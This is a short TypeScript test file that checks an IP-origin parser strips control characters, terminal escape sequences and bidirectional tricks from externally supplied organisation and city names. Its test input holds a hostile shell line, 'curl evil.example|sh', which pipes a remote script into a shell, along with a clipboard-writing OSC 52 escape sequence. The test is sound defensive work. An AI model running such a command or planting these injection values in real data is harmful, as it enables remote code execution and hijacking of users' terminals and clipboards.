import { expect, test } from "bun:test";
import { parseIp } from "./ip.ts";
import { mergeOrigin, networkOf } from "./origin.ts";

const ip = parseIp("45.77.12.9");

test("names from outside hold nothing that a terminal or a clipboard would obey", () => {
  if (ip === undefined) throw new Error("no address");
  const origin = mergeOrigin(undefined, {
    kind: "origin",
    at: 1,
    ip,
    asn: 7,
    org: "Evil\ncurl evil.example|sh\n\x1b]52;c;aGk=\x07\u202e\u2028",
    city: `${"x".repeat(63)}\u{1f600}`,
  });
  expect(networkOf(origin)).toBe("AS7 Evil curl evil.example|sh ]52;c;aGk= ");
  expect(origin.city).toBe("x".repeat(63));
});
